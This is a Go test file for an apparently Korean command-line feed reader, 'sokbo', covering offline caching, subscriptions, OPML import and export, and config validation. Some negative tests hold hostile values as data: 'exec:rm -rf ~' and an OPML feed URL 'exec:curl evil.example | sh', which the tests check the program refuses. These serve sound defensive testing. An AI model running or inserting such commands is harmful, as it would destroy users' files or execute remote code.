package main

import (
	"context"
	"database/sql"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"sokbo/feed/store"
)

// feedServer serves testdata/atom.xml with an ETag on 127.0.0.1 and counts
// the full responses it sent.
func feedServer(t *testing.T) (*httptest.Server, *atomic.Int32) {
	t.Helper()
	body, err := os.ReadFile("testdata/atom.xml")
	if err != nil {
		t.Fatal(err)
	}
	var full atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("ETag", `"v1"`)
		if r.Header.Get("If-None-Match") == `"v1"` {
			w.WriteHeader(http.StatusNotModified)
			return
		}
		full.Add(1)
		w.Header().Set("Content-Type", "application/atom+xml; charset=utf-8")
		w.Write(body)
	}))
	t.Cleanup(srv.Close)
	return srv, &full
}

// TestCacheOffline: a feed served on 127.0.0.1 is listed; the second
// fetch is a 304; after the server stops, list --offline prints the same
// items, and list prints them with an offline note and status 0.
func TestCacheOffline(t *testing.T) {
	srv, full := feedServer(t)
	env := testEnv(t)
	url := srv.URL + "/atom.xml"

	first, stderr, status := sokboEnv(t, env, "list", url)
	if status != 0 || !strings.Contains(first, "카카오톡 네트워크 오류") {
		t.Fatalf("list: status %d, stderr %q\n%s", status, stderr, first)
	}
	again, _, _ := sokboEnv(t, env, "list", url)
	if again != first || full.Load() != 1 {
		t.Errorf("second list: %d full responses (want 1, then a 304); output changed: %v", full.Load(), again != first)
	}

	srv.Close()
	offline, stderr, status := sokboEnv(t, env, "list", "--offline", url)
	if status != 0 || offline != first || stderr != "" {
		t.Errorf("list --offline: status %d, stderr %q, same output %v", status, stderr, offline == first)
	}
	// Fresh, the cache answers without asking; --refresh asks.
	if fresh, stderr, status := sokboEnv(t, env, "list", url); status != 0 || fresh != first || stderr != "" {
		t.Errorf("list of a fresh feed with the server gone: status %d, stderr %q", status, stderr)
	}
	fallback, stderr, status := sokboEnv(t, env, "list", "--refresh", url)
	if status != 0 || fallback != first {
		t.Errorf("list with the server gone: status %d, same output %v", status, fallback == first)
	}
	if strings.Count(stderr, "\n") != 1 || !strings.Contains(stderr, "offline") || !strings.Contains(stderr, url) {
		t.Errorf("offline note should be one line naming the feed: %q", stderr)
	}

	// read works from the cache too, with the body.
	out, stderr, status := sokboEnv(t, env, "read", "--offline", url, "2")
	if status != 0 || !strings.Contains(out, "복구 소요 시간") {
		t.Errorf("read --offline: status %d, stderr %q\n%s", status, stderr, out)
	}
}

func TestOfflineWithoutCache(t *testing.T) {
	_, stderr, status := sokbo(t, "list", "--offline", "http://127.0.0.1:9/feed.xml")
	if status != 1 || !strings.Contains(stderr, "not in the offline cache") || strings.Count(stderr, "\n") != 1 {
		t.Errorf("status %d, stderr %q", status, stderr)
	}
}

func TestSubscriptions(t *testing.T) {
	srv, _ := feedServer(t)
	env := testEnv(t)
	url := srv.URL + "/atom.xml"

	out, stderr, status := sokboEnv(t, env, "feeds", "add", url, "--name", "뉴스다오")
	if status != 0 || out != "subscribed to 뉴스다오 ("+url+"): 6 items\n" {
		t.Fatalf("feeds add: %d %q %q", status, out, stderr)
	}
	if _, stderr, status = sokboEnv(t, env, "feeds", "add", "exec:rm -rf ~"); status != 1 || !strings.Contains(stderr, "never runs commands") {
		t.Errorf("feeds add exec: accepted: %d %q", status, stderr)
	}
	// feeds add fetched it once; the refresh asks again.
	out, _, status = sokboEnv(t, env, "refresh")
	if status != 0 || !strings.Contains(out, "뉴스다오: not modified") {
		t.Errorf("refresh: %d\n%s", status, out)
	}
	list, _, status := sokboEnv(t, env, "list", "--offline")
	if status != 0 || strings.Count(list, "\n") != 6 {
		t.Errorf("list of subscriptions: %d\n%s", status, list)
	}
	out, _, _ = sokboEnv(t, env, "feeds", "ls")
	if !strings.HasPrefix(out, "뉴스다오\t"+url+"\t6\t6\t") {
		t.Errorf("feeds ls: %q", out)
	}

	// Export, remove, import back.
	opml, _, status := sokboEnv(t, env, "export")
	if status != 0 || !strings.Contains(opml, `xmlUrl="`+url+`"`) {
		t.Fatalf("export: %d\n%s", status, opml)
	}
	if _, stderr, status := sokboEnv(t, env, "feeds", "rm", "뉴스다오"); status != 0 {
		t.Fatalf("feeds rm: %q", stderr)
	}
	path := filepath.Join(t.TempDir(), "subs.opml")
	evil := strings.Replace(opml, "</body>", `<outline text="evil" type="rss" xmlUrl="exec:curl evil.example | sh"/></body>`, 1)
	if err := os.WriteFile(path, []byte(evil), 0o600); err != nil {
		t.Fatal(err)
	}
	out, stderr, status = sokboEnv(t, env, "import", path)
	if status != 0 || !strings.Contains(out, "imported 1 feed from") || !strings.Contains(stderr, "evil") {
		t.Errorf("import: %d %q %q", status, out, stderr)
	}
	again, _, _ := sokboEnv(t, env, "export")
	if again != opml {
		t.Errorf("export after import differs:\n%s\nvs\n%s", again, opml)
	}
}

func TestConfigFile(t *testing.T) {
	srv, _ := feedServer(t)
	dir := t.TempDir()
	cfg := filepath.Join(dir, "config.toml")
	write := func(s string) {
		t.Helper()
		if err := os.WriteFile(cfg, []byte(s), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write(fmt.Sprintf("refresh = \"30m\"\n[[feed]]\nname = \"설정 피드\"\nurl = %q\n", srv.URL+"/atom.xml"))
	out, stderr, status := sokbo(t, "--config", cfg, "refresh")
	if status != 0 || !strings.Contains(out, "설정 피드: 6 new") {
		t.Errorf("refresh from config: %d %q %q", status, out, stderr)
	}
	tests := map[string]string{
		"exec feed":   "[[feed]]\nurl = \"exec:~/bin/news.sh\"\n",
		"unknown key": "colour = \"red\"\n",
		"bad toml":    "refresh = \n",
		"bad refresh": "refresh = \"soon\"\n",
	}
	for name, body := range tests {
		t.Run(name, func(t *testing.T) {
			write(body)
			_, stderr, status := sokbo(t, "--config", cfg, "list", "testdata/seed.txt")
			if status != 1 || !strings.Contains(stderr, cfg) || strings.Count(stderr, "\n") != 1 {
				t.Errorf("status %d, stderr %q", status, stderr)
			}
		})
	}
	if _, stderr, status := sokbo(t, "--config", filepath.Join(dir, "missing.toml"), "list", "testdata/seed.txt"); status != 1 || !strings.Contains(stderr, "missing.toml") {
		t.Errorf("a missing --config file: %d %q", status, stderr)
	}
}

// TestRefreshSameNames: two feeds with one title are told apart in
// refresh's lines by where they are.
func TestRefreshSameNames(t *testing.T) {
	a, _ := feedServer(t)
	b, _ := feedServer(t)
	cfg := filepath.Join(t.TempDir(), "config.toml")
	if err := os.WriteFile(cfg, []byte(fmt.Sprintf("[[feed]]\nurl = %q\n[[feed]]\nurl = %q\n", a.URL+"/atom.xml", b.URL+"/atom.xml")), 0o600); err != nil {
		t.Fatal(err)
	}
	out, stderr, status := sokbo(t, "--config", cfg, "refresh")
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if status != 0 || len(lines) != 2 || lines[0] == lines[1] {
		t.Fatalf("refresh: %d %q %q", status, out, stderr)
	}
	for i, srv := range []string{a.URL, b.URL} {
		if want := "(" + strings.TrimPrefix(srv, "http://") + "): 6 new"; !strings.Contains(lines[i], want) {
			t.Errorf("line %d %q does not hold %q", i+1, lines[i], want)
		}
	}
}

// TestSubscriptionEdges: --offline never fetches, a second add says so,
// names survive export and import, an ambiguous name removes nothing, and
// a page whose feed is also subscribed lists each headline once.
func TestSubscriptionEdges(t *testing.T) {
	body, err := os.ReadFile("testdata/atom.xml")
	if err != nil {
		t.Fatal(err)
	}
	var hits atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		switch r.URL.Path {
		case "/atom.xml":
			w.Header().Set("Content-Type", "application/atom+xml")
			w.Write(body)
		case "/page.html":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, `<html><head><link rel="alternate" type="application/atom+xml" href="/atom.xml"></head><body>뉴스</body></html>`)
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(srv.Close)
	env := testEnv(t)
	feedURL, page := srv.URL+"/atom.xml", srv.URL+"/page.html"

	if _, stderr, status := sokboEnv(t, env, "refresh", "--offline"); status != 2 || hits.Load() != 0 {
		t.Errorf("refresh --offline: status %d, %d requests, %q", status, hits.Load(), stderr)
	}
	sokboEnv(t, env, "feeds", "add", feedURL)
	if out, _, _ := sokboEnv(t, env, "feeds", "add", feedURL); !strings.Contains(out, "already subscribed") {
		t.Errorf("second add: %q", out)
	}
	sokboEnv(t, env, "feeds", "add", page)
	sokboEnv(t, env, "refresh")
	list, _, _ := sokboEnv(t, env, "list", "--offline")
	if n := strings.Count(list, "카카오톡 네트워크 오류"); n != 1 {
		t.Errorf("the seed is listed %d times with a page and its feed both subscribed:\n%s", n, list)
	}

	opml, _, _ := sokboEnv(t, env, "export")
	if !strings.Contains(opml, `text="뉴스다오 | 실시간 뉴스 속보"`) {
		t.Errorf("export lost the feed's title as its name:\n%s", opml)
	}
	env2 := testEnv(t)
	path := filepath.Join(t.TempDir(), "subs.opml")
	if err := os.WriteFile(path, []byte(opml), 0o600); err != nil {
		t.Fatal(err)
	}
	sokboEnv(t, env2, "import", path)
	if again, _, _ := sokboEnv(t, env2, "export"); again != opml {
		t.Errorf("names changed through export and import:\n%s\nvs\n%s", again, opml)
	}

	// A name another feed has: feeds add --name refuses it, and an OPML
	// file that gives it gets the feed a name of its own.
	sokboEnv(t, env, "feeds", "add", "--force", srv.URL+"/a.xml", "--name", "같은 이름")
	if _, stderr, status := sokboEnv(t, env, "feeds", "add", "--force", srv.URL+"/b.xml", "--name", "같은 이름"); status != 1 || !strings.Contains(stderr, "is already the name of") {
		t.Errorf("add under a taken name: %d %q", status, stderr)
	}
	two := `<opml version="2.0"><body><outline type="rss" text="같은 이름" xmlUrl="` + srv.URL + `/b.xml"/></body></opml>`
	if err := os.WriteFile(path, []byte(two), 0o600); err != nil {
		t.Fatal(err)
	}
	if out, stderr, status := sokboEnv(t, env, "import", path); status != 0 || !strings.Contains(out, `"같은 이름 (b)"`) {
		t.Errorf("import under a taken name: %d %q %q", status, out, stderr)
	}
	// Two feeds under one name, as an older sokbo could leave them: rm
	// by that name removes neither.
	st, err := store.Open(context.Background(), store.Options{Path: filepath.Join(env("XDG_DATA_HOME"), "sokbo", "sokbo.db")})
	if err != nil {
		t.Fatal(err)
	}
	err = st.AddFeed(context.Background(), srv.URL+"/b.xml", "같은 이름")
	st.Close()
	if err != nil {
		t.Fatal(err)
	}
	if _, stderr, status := sokboEnv(t, env, "feeds", "rm", "같은 이름"); status != 1 || !strings.Contains(stderr, "names 2 feeds") {
		t.Errorf("ambiguous rm: %d %q", status, stderr)
	}
	if out, _, _ := sokboEnv(t, env, "feeds", "ls"); strings.Count(out, "같은 이름") != 2 {
		t.Errorf("an ambiguous rm removed a feed:\n%s", out)
	}
}

// TestReadSubscriptionItem: after `sokbo list` of the subscriptions,
// `sokbo read N` and `sokbo read LINK` read that item from the cache.
func TestReadSubscriptionItem(t *testing.T) {
	srv, _ := feedServer(t)
	env := testEnv(t)
	sokboEnv(t, env, "feeds", "add", srv.URL+"/atom.xml")
	sokboEnv(t, env, "refresh")
	list, _, _ := sokboEnv(t, env, "list", "--offline")
	second := strings.Split(strings.Split(list, "\n")[1], "\t")
	for _, key := range []string{"2", second[3]} {
		out, stderr, status := sokboEnv(t, env, "read", "--offline", key)
		if status != 0 || !strings.Contains(out, "title: "+second[2]) {
			t.Errorf("read %s: status %d, %q\n%s", key, status, stderr, out)
		}
	}
	// N.0 is a bad reference to a row's reports, not a file to look for.
	for lang, want := range map[string]string{
		"en": "sokbo: your subscriptions: no such item: 1.0 (the reports of row 1 count from 1: 1.1)\n",
		"ko": "sokbo: 구독한 피드: 그런 기사 없음: 1.0 (1번 줄의 기사는 1부터 셉니다: 1.1)\n",
	} {
		if _, stderr, status := sokboEnv(t, env, "--lang", lang, "read", "--offline", "1.0"); status != 1 || stderr != want {
			t.Errorf("read 1.0 (%s): status %d, %q, want %q", lang, status, stderr, want)
		}
	}
}

// TestListBesideAWriter: list --offline and feeds ls answer while another
// process holds the cache's write lock, without waiting for it.
func TestListBesideAWriter(t *testing.T) {
	srv, _ := feedServer(t)
	env := testEnv(t)
	sokboEnv(t, env, "feeds", "add", srv.URL+"/atom.xml")
	if _, stderr, status := sokboEnv(t, env, "refresh"); status != 0 {
		t.Fatalf("refresh: %q", stderr)
	}
	db, err := sql.Open("sqlite", defaultDataPath(env))
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	conn, err := db.Conn(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if _, err := conn.ExecContext(context.Background(), "BEGIN IMMEDIATE"); err != nil {
		t.Fatal(err)
	}
	defer conn.ExecContext(context.Background(), "ROLLBACK")
	for _, args := range [][]string{{"list", "--offline"}, {"feeds", "ls"}, {"export"}, {"read", "--offline", "1"}} {
		out, stderr, status := sokboEnv(t, env, args...)
		if status != 0 || out == "" {
			t.Errorf("%v beside a writer: status %d, %q", args, status, stderr)
		}
	}
}

// TestListWaitsAtMostWait: a feed that answers slowly does not hold list
// up past the config's wait; the cached items answer, and the one line
// says why.
func TestListWaitsAtMostWait(t *testing.T) {
	body, err := os.ReadFile("testdata/atom.xml")
	if err != nil {
		t.Fatal(err)
	}
	var slow atomic.Bool
	release := make(chan struct{})
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if slow.Load() {
			select { // answers only when the test ends
			case <-release:
			case <-r.Context().Done():
			}
			return
		}
		w.Header().Set("Content-Type", "application/atom+xml")
		w.Write(body)
	}))
	t.Cleanup(srv.Close)
	t.Cleanup(func() { close(release) })
	dir := t.TempDir()
	cfg := filepath.Join(dir, "config.toml")
	if err := os.WriteFile(cfg, []byte("wait = \"1s\"\n[[feed]]\nurl = \""+srv.URL+"/atom.xml\"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	env := testEnv(t)
	if _, stderr, status := sokboEnv(t, env, "--config", cfg, "refresh"); status != 0 {
		t.Fatalf("refresh: %q", stderr)
	}
	slow.Store(true)
	start := time.Now()
	out, stderr, status := sokboEnv(t, env, "--config", cfg, "list", "--refresh")
	if took := time.Since(start); took > 8*time.Second { // the stalled feed never answers
		t.Errorf("list took %v with wait = 1s", took)
	}
	if status != 0 || !strings.Contains(out, "카카오톡 네트워크 오류") || !strings.Contains(stderr, "not fetched within 1s") || strings.Count(stderr, "\n") != 1 {
		t.Errorf("status %d, stderr %q\n%s", status, stderr, out)
	}
}

// TestReadUnknownLink: a link read alone that no cached item has is read
// only if it is a feed. An article's page announcing its site's feed is
// not read as that feed (whose newest item is another article): one line
// names the link and says why, and the page read as a source, with ITEM,
// still finds its feed afterwards.
func TestReadUnknownLink(t *testing.T) {
	body, err := os.ReadFile("testdata/atom.xml")
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/atom.xml":
			w.Header().Set("Content-Type", "application/atom+xml; charset=utf-8")
			w.Write(body)
		case "/news/1.html":
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			fmt.Fprint(w, `<html><head><link rel="alternate" type="application/atom+xml" href="/atom.xml"></head><body><p>기사</p></body></html>`)
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(srv.Close)
	env := testEnv(t)
	page := srv.URL + "/news/1.html"
	for lang, want := range map[string]string{
		"en": "sokbo: " + page + ": no item in the cache has this link, and reading it as a feed failed: not a feed or a post (an HTML page; its feed is at " + srv.URL + "/atom.xml)\n",
		"ko": "sokbo: " + page + ": 캐시에 이 링크의 기사가 없고, 피드로 읽지도 못함: 피드도 글도 아닙니다 (HTML 페이지; 피드 주소는 " + srv.URL + "/atom.xml)\n",
	} {
		out, stderr, status := sokboEnv(t, env, "--lang", lang, "read", page)
		if status != 1 || out != "" || stderr != want {
			t.Errorf("read PAGE (%s): status %d, %q, want %q\n%s", lang, status, stderr, want, out)
		}
	}
	gone := srv.URL + "/news/2.html"
	if _, stderr, status := sokboEnv(t, env, "read", gone); status != 1 || !strings.Contains(stderr, "sokbo: "+gone+": no item in the cache has this link, and reading it as a feed failed: http 404") {
		t.Errorf("read 404: status %d, %q", status, stderr)
	}
	// Read as a source, the page is what README says a source is.
	if out, stderr, status := sokboEnv(t, env, "read", page, "1"); status != 0 || !strings.Contains(out, "title: ") {
		t.Errorf("read PAGE 1: status %d, %q", status, stderr)
	}
	// A feed read alone is read.
	if out, stderr, status := sokboEnv(t, env, "read", srv.URL+"/atom.xml"); status != 0 || !strings.Contains(out, "title: ") {
		t.Errorf("read FEED: status %d, %q", status, stderr)
	}
}

// TestReadLinkOfListedFeed: `sokbo read LINK` of an item a feed holds
// that was listed by its URL, not subscribed, reads that item from that
// feed, not from the subscriptions, where it is not.
func TestReadLinkOfListedFeed(t *testing.T) {
	srv, _ := feedServer(t)
	env := testEnv(t)
	if _, stderr, status := sokboEnv(t, env, "feeds", "add", srv.URL+"/atom.xml"); status != 0 {
		t.Fatal(stderr)
	}
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/rss+xml")
		fmt.Fprint(w, `<?xml version="1.0"?><rss version="2.0"><channel><title>다른 신문</title><link>https://other.example/</link>`+
			`<item><guid>o1</guid><title>다른 신문의 기사</title><link>https://other.example/o1</link></item></channel></rss>`)
	}))
	t.Cleanup(other.Close)
	if _, stderr, status := sokboEnv(t, env, "list", other.URL+"/rss"); status != 0 {
		t.Fatal(stderr)
	}
	out, stderr, status := sokboEnv(t, env, "read", "--offline", "https://other.example/o1")
	if status != 0 || !strings.Contains(out, "title: 다른 신문의 기사") {
		t.Errorf("read LINK: status %d, %q\n%s", status, stderr, out)
	}
}

// TestOfflineAfterFailure: list --offline of a feed whose only fetch got
// a 404 says it is not cached because that fetch failed, and why, in
// either language; a feed never tried says only that it is not cached.
func TestOfflineAfterFailure(t *testing.T) {
	srv := httptest.NewServer(http.NotFoundHandler())
	t.Cleanup(srv.Close)
	env := testEnv(t)
	url := srv.URL + "/gone.xml"
	if _, stderr, status := sokboEnv(t, env, "list", url); status != 1 || !strings.Contains(stderr, "404") {
		t.Fatalf("list of a 404: status %d, %q", status, stderr)
	}
	never := "http://127.0.0.1:9/never.xml"
	for lang, want := range map[string]string{
		"en": "sokbo: " + url + ": not in the offline cache: its last fetch failed: http 404 Not Found; run without --offline to retry\n" +
			"sokbo: " + never + ": not in the offline cache; run without --offline to fetch it\n",
		"ko": "sokbo: " + url + ": 오프라인 캐시에 없음, 마지막으로 가져오기에 실패함: 서버 응답 404 (찾을 수 없음); --offline 없이 실행하면 다시 가져옵니다\n" +
			"sokbo: " + never + ": 오프라인 캐시에 없음; --offline 없이 실행하면 가져옵니다\n",
	} {
		_, stderr, status := sokboEnv(t, env, "list", "--offline", "--lang", lang, url, never)
		if status != 1 || stderr != want {
			t.Errorf("%s: list --offline: status %d\n got %q\nwant %q", lang, status, stderr, want)
		}
	}
}

// TestListSlowUnsubscribed: a URL listed alone, not subscribed, whose
// server does not answer within the wait is one line whose hint is true
// of it: `sokbo refresh` fetches only subscriptions, so it is not named;
// the config's wait and `sokbo feeds add` are.
func TestListSlowUnsubscribed(t *testing.T) {
	release := make(chan struct{})
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		select { // answers only when the test ends
		case <-release:
		case <-r.Context().Done():
		}
	}))
	t.Cleanup(srv.Close)
	t.Cleanup(func() { close(release) })
	cfg := filepath.Join(t.TempDir(), "config.toml")
	if err := os.WriteFile(cfg, []byte("wait = \"1s\"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	for lang, want := range map[string]string{
		"C.UTF-8":     "sokbo: " + srv.URL + "/slow: not fetched within 1s (wait in the config file gives it longer); `sokbo feeds add` waits for it\n",
		"ko_KR.UTF-8": "sokbo: " + srv.URL + "/slow: 1s 안에 가져오지 못함 (설정 파일의 wait로 늘릴 수 있음); `sokbo feeds add`는 기다립니다\n",
	} {
		_, stderr, status := sokboEnv(t, testEnv(t, "LANG", lang), "--config", cfg, "list", srv.URL+"/slow")
		if status != 1 || stderr != want {
			t.Errorf("%s: status %d, stderr %q, want %q", lang, status, stderr, want)
		}
	}
}

// TestListPageStillLooking: a page with no feed link, whose usual feed
// paths do not answer before the wait ends, is said to be a page whose
// feed was still being looked for, not only a source slow to fetch.
func TestListPageStillLooking(t *testing.T) {
	release := make(chan struct{})
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/" {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			io.WriteString(w, "<!doctype html><html><head><title>가람</title></head><body>피드 없음</body></html>")
			return
		}
		select { // the usual paths answer only when the test ends
		case <-release:
		case <-r.Context().Done():
		}
	}))
	t.Cleanup(srv.Close)
	t.Cleanup(func() { close(release) })
	cfg := filepath.Join(t.TempDir(), "config.toml")
	if err := os.WriteFile(cfg, []byte("wait = \"1s\"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	for lang, want := range map[string]string{
		"C.UTF-8":     "sokbo: " + srv.URL + "/: an HTML page; its feed was still being looked for when 1s ran out (the usual paths, asked in turn); `sokbo feeds add` looks to the end\n",
		"ko_KR.UTF-8": "sokbo: " + srv.URL + "/: HTML 페이지라 피드를 찾는 중에 기다리는 시간(1s)이 끝남 (흔히 쓰는 경로를 차례로 물어봄); `sokbo feeds add`는 끝까지 찾습니다\n",
	} {
		_, stderr, status := sokboEnv(t, testEnv(t, "LANG", lang), "--config", cfg, "list", srv.URL+"/")
		if status != 1 || stderr != want {
			t.Errorf("%s: status %d, stderr %q, want %q", lang, status, stderr, want)
		}
	}
}

// TestListBusyFirstFetch: a feed another sokbo on the cache is fetching
// for the first time is not missing from list without a word: one line
// says it is being fetched by another sokbo and nothing of it is cached
// yet, and list exits 1, as for a feed not fetched within its wait; read
// says the same, not that the empty list has no item 1. Once cached, a
// feed another sokbo is refreshing is listed from the cache, silently.
func TestListBusyFirstFetch(t *testing.T) {
	srv, _ := feedServer(t)
	cfg := filepath.Join(t.TempDir(), "config.toml")
	url := srv.URL + "/atom.xml"
	if err := os.WriteFile(cfg, []byte("[[feed]]\nurl = \""+url+"\"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	env := testEnv(t)
	db := filepath.Join(t.TempDir(), "sokbo.db")
	st, err := store.Open(t.Context(), store.Options{Path: db})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	// Another sokbo's claim, as its refresh holds it while it fetches.
	if ok, err := st.Claim(t.Context(), url, time.Hour); err != nil || !ok {
		t.Fatalf("claim: %v, %v", ok, err)
	}
	for lang, want := range map[string]string{
		"C.UTF-8":     "sokbo: " + url + ": being fetched by another sokbo; nothing of it is cached yet\n",
		"ko_KR.UTF-8": "sokbo: " + url + ": 다른 sokbo가 가져오는 중; 아직 캐시에 없음\n",
	} {
		env := testEnv(t, "LANG", lang)
		for _, args := range [][]string{{"list"}, {"read", "1"}} {
			out, stderr, status := sokboEnv(t, env, append([]string{"--config", cfg, "--db", db}, args...)...)
			if status != 1 || out != "" || stderr != want {
				t.Errorf("%s %v while another sokbo fetches: status %d, stderr %q, want %q\n%s", lang, args, status, stderr, want, out)
			}
		}
	}
	if err := st.Release(t.Context(), url); err != nil {
		t.Fatal(err)
	}
	if _, stderr, status := sokboEnv(t, env, "--config", cfg, "--db", db, "refresh"); status != 0 {
		t.Fatalf("refresh: %q", stderr)
	}
	if ok, err := st.Claim(t.Context(), url, time.Hour); err != nil || !ok {
		t.Fatalf("claim: %v, %v", ok, err)
	}
	out, stderr, status := sokboEnv(t, env, "--config", cfg, "--db", db, "list", "--refresh")
	if status != 0 || stderr != "" || !strings.Contains(out, "카카오톡 네트워크 오류") {
		t.Errorf("list of a cached feed another sokbo refreshes: status %d, stderr %q\n%s", status, stderr, out)
	}
}
